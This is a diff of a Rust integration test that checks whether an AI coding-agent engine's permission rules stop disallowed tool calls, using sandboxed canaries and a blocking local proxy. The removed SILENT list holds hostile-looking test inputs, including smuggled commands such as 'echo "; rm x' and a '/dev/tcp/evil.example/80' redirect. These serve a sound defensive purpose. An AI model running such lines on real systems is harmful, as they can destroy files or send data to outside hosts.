@@ -9,22 +9,18 @@
 //! own. What is allowed must leave the same traces there and here; of the rest it is known which would leave traces.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::io::{BufRead as _, BufReader, Write as _};
-use std::net::TcpListener;
-use std::path::{Path, PathBuf};
-use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
-use opencode_rs::permission::Policy;
 use opencode_rs::request::{Effect, Preset};
 use serde_json::{Value, json};
 
-use super::canaries::{Canaries, Changes, Entry, Trace, changes, tree};
+use super::canaries::{Canaries, Trace, changes, tree};
+use super::exceptions::{NOT_CALLED, NOT_OFFERED, OPEN, OTHER_TOOLS, SILENT, STRICTER, is_open};
+use super::outside::{Outside, wrong_addresses};
+use super::packs::{Pack, as_called, packs};
+use super::plainly::{plainly, text_of};
 use super::table::{Case, Ground, cases, ground, ground_in, tables};
 use crate::support::{Sandbox, empty_registry};
-
-/// How many calls one engine is given: each makes the next request longer.
-const MOST_CALLS: usize = 120;
 
 /// What the engine and the tests themselves write beside what the rows speak of.
 const OURS: [&str; 8] = [
@@ -37,159 +33,6 @@ const OURS: [&str; 8] = [
     "home/.cache",
     "home/.bun",
 ];
-
-/// No tools, but permissions: nothing can call them.
-const NOT_CALLED: [&str; 2] = ["doom_loop", "external_directory"];
-
-/// Tools that the engine does not offer here, or that nobody has; a call of them is a call of `invalid`.
-const NOT_OFFERED: [&str; 7] = [
-    "apply_patch",
-    "StructuredOutput",
-    "invalid",
-    "lsp",
-    "plan_exit",
-    "question",
-    "websearch",
-];
-
-/// Tools of a server and tools that nobody knows, made real: they leave a trace of their own.
-const OTHER_TOOLS: [&str; 4] = ["fake_add", "list_mcp_resources", "made_up", "read_mcp_resource"];
-
-/// Rows that a plain bash does not run: it would look for a host.
-const NOT_RUN_PLAINLY: [&str; 1] = ["/dev/tcp/"];
-
-/// Lines that leave no trace when a plain bash runs them; that they did not run is only seen in the result.
-const SILENT: [&str; 32] = [
-    // Nothing at all, or what no shell takes.
-    "",
-    "   \n",
-    "# rm x",
-    "ls (",
-    "ls \"",
-    "ls $(",
-    "ls ( rm x",
-    "echo \"; rm x",
-    "git status \0; touch x",
-    "{\"command\":[\"rm\",\"x\"]}",
-    "{\"command\":\"ls\",\"workdir\":[\"/etc\"]}",
-    // What they would run has no name here, or a name that is the machine's own.
-    "$x status",
-    "nice --weird $x",
-    "eval \"$x\"",
-    "sh -c \"$x\"",
-    "/usr/bin/git status",
-    "builtin rm x",
-    ". ./x.sh",
-    "source x.sh",
-    "bash",
-    // A redirection that fails, or a host that is not looked for.
-    "ls < $x",
-    "echo a > $x",
-    "ls > /dev/tcp/evil.example/80",
-    // What the shell does by itself.
-    "alias l='rm x'",
-    "[[ $x -eq 1 ]] && ls",
-    "cd - && ls",
-    "echo $((x))",
-    "echo ${a[x]}",
-    "echo ${x@P}",
-    // Placeholders that stay what they are.
-    "echo rm | xargs -I{} {} x",
-    "echo rm | xargs -i {} x",
-    "> out rm x",
-];
-
-/// Rows that are judged to be allowed, and that the engine asks about itself: it does not follow `cd`, and takes
-/// `../a.txt` for a place outside. Whether that is allowed is decided anew, and nobody is there to say so.
-const STRICTER: [&str; 1] = ["cd sub && cat ../a.txt"];
-
-/// A run of the program: rows whose rules do not get in each other's way.
-struct Pack {
-    preset: Preset,
-    rules: Vec<String>,
-    cases: Vec<Case>,
-}
-
-/// Puts rows together whose effects stay the same when their rules are put together, so that few engines are started.
-fn packs(ground: &Ground, cases: Vec<Case>) -> Vec<Pack> {
-    let mut units: Vec<Pack> = Vec::new();
-    for case in cases {
-        let same = |unit: &&mut Pack| (unit.preset, &unit.rules) == (case.preset, &case.rules);
-        match units.iter_mut().find(same) {
-            Some(unit) => unit.cases.push(case),
-            None => units.push(Pack {
-                preset: case.preset,
-                rules: case.rules.clone(),
-                cases: vec![case],
-            }),
-        }
-    }
-    units.sort_by_key(|unit| std::cmp::Reverse(unit.cases.len()));
-    let mut packs: Vec<Pack> = Vec::new();
-    for unit in units {
-        let fitting = packs.iter_mut().find_map(|pack| {
-            let rules = together(&pack.rules, &unit.rules);
-            let policy = ground.policy(unit.preset, &rules);
-            let fits = pack.preset == unit.preset
-                && pack.cases.len() + unit.cases.len() <= MOST_CALLS
-                && [&unit, &*pack].iter().all(|part| {
-                    let own = ground.policy(part.preset, &part.rules);
-                    part.cases.iter().all(|case| {
-                        // A tool that is not there proves nothing about a rule that only denies some of its calls.
-                        case.judged_by(&policy, ground).effect == case.expect
-                            && is_removed(&policy, case) == is_removed(&own, case)
-                    })
-                });
-            fits.then_some((pack, rules))
-        });
-        match fitting {
-            Some((pack, rules)) => {
-                pack.rules = rules;
-                pack.cases.extend(unit.cases);
-            }
-            None => packs.push(unit),
-        }
-    }
-    for pack in &mut packs {
-        // What must not run cannot hide behind what runs after it.
-        pack.cases.sort_by_key(|case| case.expect != Effect::Allow);
-    }
-    packs
-}
-
-/// Whether the tool of a row is denied altogether.
-fn is_removed(policy: &Policy, case: &Case) -> bool {
-    let name = match case.tool.as_str() {
-        "write" | "apply_patch" => "edit",
-        name => name,
-    };
-    policy
-        .removed_tools()
-        .iter()
-        .any(|removed| removed == name || removed.strip_suffix('*').is_some_and(|start| name.starts_with(start)))
-}
-
-fn together(rules: &[String], more: &[String]) -> Vec<String> {
-    let mut all = rules.to_vec();
-    all.extend(more.iter().filter(|rule| !rules.contains(rule)).cloned());
-    all
-}
-
-/// The engine reads the name of a tool in capitals as the tool that it knows, before anybody is asked: `BASH` is `bash`.
-fn as_called(case: Case, ground: &Ground) -> Case {
-    if case.tool != "BASH" {
-        return case;
-    }
-    let case = Case {
-        tool: "bash".to_owned(),
-        ..case
-    };
-    let policy = ground.policy(case.preset, &case.rules);
-    Case {
-        expect: case.judged_by(&policy, ground).effect,
-        ..case
-    }
-}
 
 /// The arguments as a model sends them: what the tool needs besides what the row is about.
 fn arguments(case: &Case, ground: &Ground) -> Value {
@@ -207,92 +50,6 @@ fn arguments(case: &Case, ground: &Ground) -> Value {
     let all = arguments.as_object_mut().unwrap();
     all.extend(more.as_object().unwrap().clone());
     arguments
-}
-
-/// What a row writes.
-fn text_of(case: &Case) -> String {
-    format!("written by {}\n", case.name)
-}
-
-/// What comes of a row that runs.
-#[derive(Debug, Default)]
-struct Effects {
-    traces: Vec<Trace>,
-    changes: Changes,
-}
-
-/// Runs a line in a plain bash, in a place of its own, and sees what comes of it; and what a tool for files is to write.
-fn effects(canaries: &Canaries, case: &Case) -> Effects {
-    let ground = ground();
-    canaries.settle(&ground);
-    let arguments = case.arguments(&ground);
-    let mut effects = Effects::default();
-    if case.tool == "write" || case.tool == "edit" {
-        let path = case.input.replace("@ROOT@/", "../");
-        let path = Path::new("work").join(path);
-        let path: PathBuf = path.to_str().unwrap().replace("work/../", "").into();
-        for parent in path.ancestors().skip(1).filter(|path| !path.as_os_str().is_empty()) {
-            effects.changes.insert(parent.to_owned(), Some(Entry::Directory));
-        }
-        effects.changes.insert(path, Some(Entry::File(text_of(case))));
-    }
-    if OTHER_TOOLS.contains(&case.tool.as_str()) {
-        effects.traces.push(Trace {
-            row: case.tool.clone(),
-            call: "a tool".to_owned(),
-        });
-    }
-    if case.tool != "bash" || NOT_RUN_PLAINLY.iter().any(|part| case.input.contains(part)) {
-        return effects;
-    }
-    let Some(line) = arguments["command"].as_str().filter(|line| !line.contains('\0')) else {
-        return effects;
-    };
-    let directory = match arguments.get("workdir") {
-        None => ground.directory(),
-        Some(Value::String(path)) => ground.directory().join(path),
-        Some(_) => return effects,
-    };
-    let before = tree(&ground, &[]);
-    effects.traces = canaries.run(&ground, &directory, &case.name, line);
-    effects.changes = changes(&before, &tree(&ground, &[]));
-    effects
-}
-
-/// What comes of each row by its name.
-fn plainly(cases: &[Case]) -> BTreeMap<String, Effects> {
-    let place = tempfile::tempdir().unwrap();
-    let canaries = Canaries::new(place.path().join("canaries"));
-    cases
-        .iter()
-        .map(|case| (case.name.clone(), effects(&canaries, case)))
-        .collect()
-}
-
-/// Stands where a proxy is: writes down where anybody wants to go, and lets nobody through.
-struct Outside {
-    address: String,
-    asked: Arc<Mutex<Vec<String>>>,
-}
-
-impl Outside {
-    fn new() -> Self {
-        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-        let address = format!("http://{}", listener.local_addr().unwrap());
-        let asked = Arc::new(Mutex::new(Vec::new()));
-        let theirs = Arc::clone(&asked);
-        std::thread::spawn(move || {
-            for stream in listener.incoming().flatten() {
-                let mut line = String::new();
-                drop(BufReader::new(&stream).read_line(&mut line));
-                theirs.lock().unwrap().push(line.trim_end().to_owned());
-                drop(
-                    (&stream).write_all(b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"),
-                );
-            }
-        });
-        Self { address, asked }
-    }
 }
 
 /// The plugin that names rows, and the tools of the user's that stand for those of a server.
@@ -324,17 +81,14 @@ fn install_marks(sandbox: &Sandbox, canaries: &Canaries) {
 
 /// A model that makes these calls, one after the other.
 fn script(pack: &Pack, ground: &Ground) -> String {
-    let mut script = String::new();
-    for case in &pack.cases {
+    let replies = pack.cases.iter().map(|case| {
         // Arguments as text are sent as they are.
         let words = [&case.tool, &case.name, &arguments(case, ground).to_string()]
             .map(|text| toml::Value::String(text.clone()).to_string());
         let [name, id, arguments] = words;
-        script.push_str(&format!(
-            "[[reply]]\ntool_calls = [{{ name = {name}, id = {id}, arguments = {arguments} }}]\n"
-        ));
-    }
-    script + "[[reply]]\ntext = \"Done.\"\n"
+        format!("[[reply]]\ntool_calls = [{{ name = {name}, id = {id}, arguments = {arguments} }}]\n")
+    });
+    replies.collect::<String>() + "[[reply]]\ntext = \"Done.\"\n"
 }
 
 /// Rules as the user's settings hold them.
@@ -352,6 +106,8 @@ fn settings(rules: impl Iterator<Item = String>) -> String {
 struct Seen {
     allowed: usize,
     refused: usize,
+    /// Of [`OPEN`].
+    open: usize,
     /// Of those refused, how many leave traces where nobody refuses them.
     would_show: usize,
     wrong: Vec<String>,
@@ -362,6 +118,7 @@ impl Seen {
     fn add(&mut self, other: Seen) {
         self.allowed += other.allowed;
         self.refused += other.refused;
+        self.open += other.open;
         self.would_show += other.would_show;
         self.wrong.extend(other.wrong);
         self.calls_of_engines.extend(other.calls_of_engines);
@@ -436,6 +193,11 @@ fn run(pack: &Pack) -> Seen {
                     None => expected.remove(path),
                 };
             }
+        } else if is_open(case) {
+            seen.open += 1;
+            if outcome.wrong_for_refused(case).is_none() {
+                seen.wrong.push(format!("{case:?} does not run any more"));
+            }
         } else {
             seen.refused += 1;
             seen.wrong.extend(outcome.wrong_for_refused(case));
@@ -460,40 +222,13 @@ fn run(pack: &Pack) -> Seen {
     if !wrong.is_empty() {
         seen.wrong.push(format!("files are not as they should be: {wrong:#?}"));
     }
-    seen.wrong.extend(wrong_addresses(pack, &outside));
+    seen.wrong.extend(wrong_addresses(&pack.cases, &outside));
     sandbox.expect_nothing_left();
     seen
 }
 
 fn sorted(traces: &[Trace]) -> BTreeSet<&Trace> {
     traces.iter().collect()
-}
-
-/// Which addresses were gone to and must not, or the other way round.
-fn wrong_addresses(pack: &Pack, outside: &Outside) -> Vec<String> {
-    let asked = outside.asked.lock().unwrap();
-    let host = |case: &Case| url::Url::parse(&case.input).ok()?.host_str().map(str::to_owned);
-    let fetches = |effect: fn(Effect) -> bool| -> BTreeSet<String> {
-        pack.cases
-            .iter()
-            .filter(|case| case.tool == "webfetch" && effect(case.expect))
-            .filter_map(host)
-            .collect()
-    };
-    let allowed = fetches(|effect| effect == Effect::Allow);
-    let refused = fetches(|effect| effect != Effect::Allow);
-    let mut wrong = Vec::new();
-    for host in &allowed {
-        if !asked.iter().any(|line| line.contains(host.as_str())) {
-            wrong.push(format!("nobody went to {host}: {asked:?}"));
-        }
-    }
-    for host in refused.difference(&allowed) {
-        if asked.iter().any(|line| line.contains(host.as_str())) {
-            wrong.push(format!("somebody went to {host}: {asked:?}"));
-        }
-    }
-    wrong
 }
 
 /// What the result says about a call.
@@ -569,7 +304,6 @@ fn of_six_hundred_rows_of_the_tables_only_those_that_are_allowed_run() {
         .map(|case| as_called(case, &ground))
         .collect();
     let packs = packs(&ground, cases);
-    let packed = began.elapsed();
     let mut seen = Seen::default();
     // Each waits until one more engine may run.
     std::thread::scope(|scope| {
@@ -581,22 +315,22 @@ fn of_six_hundred_rows_of_the_tables_only_those_that_are_allowed_run() {
             }
         }
     });
-    println!(
-        "{} allowed, {} refused, {} of which would have left traces, by {} engines in {:?} (packed {packed:?})\n{:?}",
+    let numbers = format!(
+        "{} allowed, {} refused ({} of them would have shown), {} open, by {} engines in {:?}: {:?}",
         seen.allowed,
         seen.refused,
         seen.would_show,
+        seen.open,
         packs.len(),
         began.elapsed(),
         seen.calls_of_engines,
     );
+    assert!(seen.wrong.is_empty(), "{numbers}\n{}", seen.wrong.join("\n"));
     assert!(
-        seen.wrong.is_empty(),
-        "{}:\n{}",
-        seen.wrong.len(),
-        seen.wrong.join("\n")
+        seen.allowed >= 120 && seen.refused >= 500 && seen.would_show >= 370,
+        "{numbers}"
     );
-    assert!(seen.allowed >= 120 && seen.refused >= 500);
+    assert_eq!(seen.open, OPEN.len());
 }
 
 /// Whether a call met no tool: the engine calls `invalid` instead, and fails where that is not there either.
